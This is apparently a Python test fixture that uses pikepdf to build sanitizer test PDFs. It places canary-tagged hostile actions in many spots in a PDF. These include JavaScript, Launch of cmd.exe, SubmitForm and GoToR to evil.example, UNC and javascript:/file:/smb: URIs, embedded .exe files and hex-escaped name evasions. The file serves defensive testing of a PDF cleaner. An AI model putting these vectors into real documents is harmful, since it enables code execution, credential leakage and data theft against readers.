"""Hostile PDFs generated with pikepdf: every action type a viewer could run, hidden in every place a PDF can
hold one (direct and indirect, in arrays, /Next chains, names trees, outlines, form fields, XFA), plus
embedded files, rich media and spelling tricks (/J#61vaScript, lower case, mixed-case javascript: URLs).

Every hostile payload carries CANARY in a string or stream, so a checker can also prove by a raw scan of
the fully decompressed output that none of it survived. The harmless base (tests.doc_helpers.make_pdf plus
an internal link, an https link and an outline entry) must survive."""

from __future__ import annotations

import io
import re
from typing import Any, Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.doc_helpers import make_pdf

CANARY = "ecabinet-canary"
SAFE_URL = "https://congbao.chinhphu.vn/van-ban"
C = String(CANARY)


def base() -> pikepdf.Pdf:
    """Two pages; page 1 has an internal link to page 2 and an https link; one outline entry to page 2."""
    pdf = pikepdf.open(io.BytesIO(make_pdf(2)))
    p1, p2 = pdf.pages[0].obj, pdf.pages[1].obj
    internal = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[72, 600, 300, 620],
        Border=[0, 0, 0],
        A=Dictionary(S=Name.GoTo, D=Array([p2, Name.Fit])),
    )
    web = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[72, 560, 300, 580],
        Border=[0, 0, 0],
        A=Dictionary(S=Name.URI, URI=String(SAFE_URL)),
    )
    p1.Annots = pdf.make_indirect(Array([pdf.make_indirect(internal), web]))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("Mục lục: trang 2"), Parent=outlines, Dest=Array([p2, Name.Fit])))
    outlines.First = outlines.Last = item
    pdf.Root.Outlines = outlines
    return pdf


def _stream(pdf: pikepdf.Pdf, data: str, **keys: object) -> pikepdf.Stream:
    s = pikepdf.Stream(pdf, data.encode())
    for k, v in keys.items():
        s[f"/{k}"] = v
    return s


# --- actions ------------------------------------------------------------------------------------------------
Action = Callable[[pikepdf.Pdf], Dictionary]
ACTIONS: dict[str, Action] = {
    "JavaScript": lambda pdf: Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{CANARY}');")),
    "JavaScript in a stream": lambda pdf: Dictionary(S=Name.JavaScript, JS=_stream(pdf, f"app.launchURL('{CANARY}');")),
    "JavaScript lower-case name": lambda pdf: Dictionary(S=Name("/javascript"), JS=String(f"app.alert('{CANARY}')")),
    "JS key without /S": lambda pdf: Dictionary(Type=Name.Action, JS=String(f"this.exportDataObject('{CANARY}')")),
    "ECMAScript": lambda pdf: Dictionary(S=Name("/ECMAScript"), JS=String(CANARY)),
    "Launch": lambda pdf: Dictionary(
        S=Name.Launch,
        F=String(f"C:\\Windows\\System32\\calc.exe {CANARY}"),
        Win=Dictionary(F=String("cmd.exe"), P=String(f"/c {CANARY}")),
    ),
    "SubmitForm": lambda pdf: Dictionary(
        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(f"https://evil.example/{CANARY}"))
    ),
    "ImportData": lambda pdf: Dictionary(S=Name.ImportData, F=String(f"{CANARY}.fdf")),
    "ResetForm": lambda pdf: Dictionary(S=Name.ResetForm, Fields=Array([String(CANARY)])),
    "GoToR to a UNC path": lambda pdf: Dictionary(
        S=Name.GoToR, F=String(f"\\\\evil.example\\{CANARY}\\x.pdf"), D=Array([0, Name.Fit])
    ),
    "GoToR to a URL": lambda pdf: Dictionary(
        S=Name.GoToR,
        F=Dictionary(FS=Name.URL, F=String(f"https://evil.example/{CANARY}.pdf")),
        D=Array([0, Name.Fit]),
        NewWindow=True,
    ),
    "GoToE": lambda pdf: Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String(CANARY)), D=Array([0, Name.Fit])),
    "GoToDp": lambda pdf: Dictionary(S=Name("/GoToDp"), Dp=Dictionary(Type=Name("/DPart"), X=C)),
    "Thread": lambda pdf: Dictionary(S=Name.Thread, F=String(f"{CANARY}.pdf"), D=0),
    "Sound": lambda pdf: Dictionary(S=Name.Sound, Sound=_stream(pdf, CANARY, R=8000)),
    "Movie": lambda pdf: Dictionary(S=Name.Movie, T=C),
    "Rendition": lambda pdf: Dictionary(
        S=Name.Rendition,
        OP=0,
        R=Dictionary(
            S=Name("/MR"), C=Dictionary(S=Name("/MCD"), D=Dictionary(Type=Name.Filespec, F=String(f"{CANARY}.mp4")))
        ),
    ),
    "Hide": lambda pdf: Dictionary(S=Name.Hide, T=C),
    "SetOCGState": lambda pdf: Dictionary(S=Name.SetOCGState, State=Array([Name.OFF]), X=C),
    "Trans": lambda pdf: Dictionary(S=Name.Trans, Trans=Dictionary(S=Name.Dissolve), X=C),
    "GoTo3DView": lambda pdf: Dictionary(S=Name("/GoTo3DView"), TA=Dictionary(), V=C),
    "RichMediaExecute": lambda pdf: Dictionary(S=Name("/RichMediaExecute"), CMD=Dictionary(C=C)),
    "Named Print": lambda pdf: Dictionary(S=Name.Named, N=Name.Print, X=C),
    "URI javascript:": lambda pdf: Dictionary(S=Name.URI, URI=String(f"javascript:app.alert('{CANARY}')")),
    "URI JaVaScRiPt with whitespace": lambda pdf: Dictionary(
        S=Name.URI, URI=String(f" \tJaVa\nScRiPt :alert('{CANARY}')")
    ),
    "URI file:": lambda pdf: Dictionary(S=Name.URI, URI=String(f"file:///etc/{CANARY}")),
    "URI UNC path": lambda pdf: Dictionary(S=Name.URI, URI=String(f"\\\\evil.example\\{CANARY}")),
    "URI http with backslashes": lambda pdf: Dictionary(S=Name.URI, URI=String(f"http:\\\\evil.example\\{CANARY}")),
    "URI smb:": lambda pdf: Dictionary(S=Name.URI, URI=String(f"smb://evil.example/{CANARY}")),
    "URI data:": lambda pdf: Dictionary(S=Name.URI, URI=String(f"data:text/html,<script>{CANARY}</script>")),
    "URI relative": lambda pdf: Dictionary(S=Name.URI, URI=String(f"{CANARY}/x.html")),
    "GoTo then JavaScript via /Next": lambda pdf: Dictionary(
        S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), Next=Dictionary(S=Name.JavaScript, JS=C)
    ),
    "https URI then Launch in a /Next array": lambda pdf: Dictionary(
        S=Name.URI,
        URI=String(SAFE_URL),
        Next=Array(
            [
                Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])),
                pdf.make_indirect(Dictionary(S=Name.Launch, F=C)),
            ]
        ),
    ),
    "GoTo carrying /JS": lambda pdf: Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), JS=C),
}


# --- places -------------------------------------------------------------------------------------------------
def _link(pdf: pikepdf.Pdf, **keys: Any) -> None:
    annot = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 500, 300, 520], **keys)
    pdf.pages[0].obj.Annots.append(annot)


def _field(pdf: pikepdf.Pdf, **keys: Any) -> None:
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            Ff=65536,
            T=String("nut"),
            Rect=[72, 450, 200, 470],
            P=pdf.pages[0].obj,
            **keys,
        )
    )
    pdf.pages[0].obj.Annots.append(widget)
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))


def _outline_second(pdf: pikepdf.Pdf, action: object) -> None:
    first = pdf.Root.Outlines.First
    second = pdf.make_indirect(Dictionary(Title=String("Mục 2"), Parent=pdf.Root.Outlines, Prev=first, A=action))
    first.Next = second
    pdf.Root.Outlines.Last = second
    pdf.Root.Outlines.Count = 2


Place = Callable[[pikepdf.Pdf, object], None]
PLACES: dict[str, Place] = {
    "catalog /OpenAction": lambda pdf, a: setattr(pdf.Root, "OpenAction", a),
    "catalog /AA": lambda pdf, a: setattr(pdf.Root, "AA", Dictionary(WC=a, DP=a)),
    "page /AA": lambda pdf, a: setattr(pdf.pages[1].obj, "AA", Dictionary(O=a)),
    "link annotation /A": lambda pdf, a: _link(pdf, A=a),
    "link annotation /AA": lambda pdf, a: _link(pdf, AA=Dictionary(E=a)),
    "link annotation /PA": lambda pdf, a: _link(pdf, PA=a, Dest=Array([pdf.pages[1].obj, Name.Fit])),
    "form field /A": lambda pdf, a: _field(pdf, A=a),
    "form field /AA": lambda pdf, a: _field(pdf, AA=Dictionary(K=a, F=a, V=a, C=a)),
    "first outline entry /A": lambda pdf, a: setattr(pdf.Root.Outlines.First, "A", a),
    "outline entry reached by /Next": _outline_second,
    "names tree /JavaScript": lambda pdf, a: setattr(
        pdf.Root, "Names", Dictionary(JavaScript=Dictionary(Names=Array([String("x"), a])))
    ),
    "names tree /JavaScript in /Kids": lambda pdf, a: setattr(
        pdf.Root,
        "Names",
        Dictionary(
            JavaScript=Dictionary(
                Kids=Array(
                    [
                        pdf.make_indirect(
                            Dictionary(Limits=Array([String("a"), String("z")]), Names=Array([String("m"), a]))
                        )
                    ]
                )
            )
        ),
    ),
    "/Next of the internal link": lambda pdf, a: setattr(pdf.pages[0].obj.Annots[0].A, "Next", a),
    "/Next array of the internal link": lambda pdf, a: setattr(
        pdf.pages[0].obj.Annots[0].A, "Next", Array([Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])), a])
    ),
    "array under an unknown key": lambda pdf, a: setattr(pdf.pages[0].obj, "PieceInfo", Array([Array([a])])),
}


def _embedded_file(pdf: pikepdf.Pdf) -> pikepdf.Stream:
    return pdf.make_indirect(_stream(pdf, f"MZ {CANARY} payload", Type=Name.EmbeddedFile))


def _filespec(pdf: pikepdf.Pdf) -> Dictionary:
    return Dictionary(
        Type=Name.Filespec, F=String(f"{CANARY}.exe"), UF=String(f"{CANARY}.exe"), EF=Dictionary(F=_embedded_file(pdf))
    )


def _annotation(subtype: str, **keys: Any) -> Callable[[pikepdf.Pdf], None]:
    def add(pdf: pikepdf.Pdf) -> None:
        made = {k: (v(pdf) if callable(v) else v) for k, v in keys.items()}
        pdf.pages[0].obj.Annots.append(
            pdf.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=[300, 300, 400, 400], **made)
            )
        )

    return add


def _xfa(pdf: pikepdf.Pdf) -> None:
    _field(pdf)
    pdf.Root.AcroForm.XFA = Array([String("template"), _stream(pdf, f"<template><script>{CANARY}</script></template>")])
    pdf.Root.NeedsRendering = True


def _portfolio(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Collection = Dictionary(Type=Name.Collection, D=C, View=Name.D)
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([C, _filespec(pdf)])))


def _postscript(pdf: pikepdf.Pdf) -> None:
    ps = pdf.make_indirect(_stream(pdf, f"%!PS {CANARY}", Type=Name.XObject, Subtype=Name.PS))
    pdf.pages[0].obj.Resources.XObject = Dictionary(PS1=ps)


def _image(pdf: pikepdf.Pdf, **keys: object) -> pikepdf.Stream:
    return pdf.make_indirect(
        _stream(
            pdf,
            "\x00\x00\x00",
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=1,
            Height=1,
            ColorSpace=Name.DeviceRGB,
            BitsPerComponent=8,
            **keys,
        )
    )


def _external(pdf: pikepdf.Pdf, **resources: Any) -> None:
    pdf.pages[0].obj.Resources.XObject = Dictionary(**resources)


def _reference_xobject(pdf: pikepdf.Pdf) -> None:
    ref = _stream(pdf, "", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 200, 200]))
    url = Dictionary(Type=Name.Filespec, FS=Name.URL, F=String(f"http://evil.example/{CANARY}.pdf"))
    ref.Ref = Dictionary(F=url, Page=0)
    _external(pdf, Fm0=pdf.make_indirect(ref))


# Content that is not an action but active or a carrier all the same.
CARRIERS: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "XFA form": _xfa,
    "embedded file in the names tree": lambda pdf: setattr(
        pdf.Root,
        "Names",
        Dictionary(EmbeddedFiles=Dictionary(Names=Array([C, _filespec(pdf)])), Dests=Dictionary(Names=Array([]))),
    ),
    "associated file /AF on a page": lambda pdf: setattr(pdf.pages[0].obj, "AF", Array([_filespec(pdf)])),
    "associated file /AF on the catalog": lambda pdf: setattr(pdf.Root, "AF", Array([_filespec(pdf)])),
    "portfolio /Collection": _portfolio,
    "FileAttachment annotation": _annotation("FileAttachment", FS=_filespec, Contents=C),
    "Sound annotation": _annotation("Sound", Sound=lambda pdf: _stream(pdf, CANARY, R=8000)),
    "Movie annotation": _annotation("Movie", Movie=Dictionary(F=String(f"{CANARY}.mov"))),
    "Screen annotation with a rendition": _annotation("Screen", A=lambda pdf: ACTIONS["Rendition"](pdf)),
    "RichMedia annotation": _annotation(
        "RichMedia", RichMediaContent=lambda pdf: Dictionary(Assets=Dictionary(Names=Array([C, _filespec(pdf)])))
    ),
    "3D annotation": _annotation(
        "3D", **{"3DD": lambda pdf: _stream(pdf, CANARY, Type=Name("/3D"), Subtype=Name("/U3D"))}
    ),
    "PostScript XObject": _postscript,
    "catalog /URI base": lambda pdf: setattr(pdf.Root, "URI", Dictionary(Base=String(f"file:///{CANARY}/"))),
    "embedded file stream under an unknown key": lambda pdf: setattr(pdf.Root, "Extra", _embedded_file(pdf)),
    "lower-case /aa and /js keys": lambda pdf: _link(
        pdf,
        aa=Dictionary(E=Dictionary(S=Name.JavaScript, JS=C)),
        A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), js=C),
    ),
    "external stream data at a URL": lambda pdf: _external(
        pdf, Im0=_image(pdf, F=Dictionary(FS=Name.URL, F=String(f"http://evil.example/{CANARY}.bin")))
    ),
    "external stream data on a network share": lambda pdf: _external(
        pdf, Im0=_image(pdf, F=String(f"\\\\evil.example\\share\\{CANARY}.bin"), FFilter=Name.FlateDecode)
    ),
    "reference XObject to a URL": _reference_xobject,
    "OPI proxy on a network share": lambda pdf: _external(
        pdf,
        Im0=_image(
            pdf,
            OPI=Dictionary(
                {"/2.0": Dictionary(Type=Name.OPI, Version=2.0, F=String(f"\\\\evil.example\\{CANARY}.tif"))}
            ),
        ),
    ),
    "alternate presentations names tree": lambda pdf: setattr(
        pdf.Root,
        "Names",
        Dictionary(AlternatePresentations=Dictionary(Names=Array([C, Dictionary(Type=Name("/SlideShow"), JS=C)]))),
    ),
}


def build(place: str, action: str, indirect: bool) -> bytes:
    pdf = base()
    made = ACTIONS[action](pdf)
    PLACES[place](pdf, pdf.make_indirect(made) if indirect else made)
    return _save(pdf)


def build_carrier(name: str) -> bytes:
    pdf = base()
    CARRIERS[name](pdf)
    return _save(pdf)


def hex_escaped_names() -> bytes:
    """/J#61vaScript, /L#61unch, /#41A written in the file's bytes (pikepdf writes names canonically)."""
    pdf = base()
    _link(pdf, A=Dictionary(S=Name.JavaScript, JS=C), AA=Dictionary(E=Dictionary(S=Name.Launch, F=C)))
    raw = _save(pdf, plain=True)
    for name, escaped in (
        (b"/JavaScript", b"/J#61vaScript"),
        (b"/Launch", b"/L#61unch"),
        (b"/AA", b"/#41A"),
        (b"/JS", b"/J#53"),
    ):
        raw = re.sub(re.escape(name) + rb"(?![A-Za-z0-9])", escaped, raw)
    return raw


def _save(pdf: pikepdf.Pdf, plain: bool = False) -> bytes:
    out = io.BytesIO()
    if plain:  # no object streams: names stay visible in the bytes
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    else:
        pdf.save(out)
    pdf.close()
    return out.getvalue()
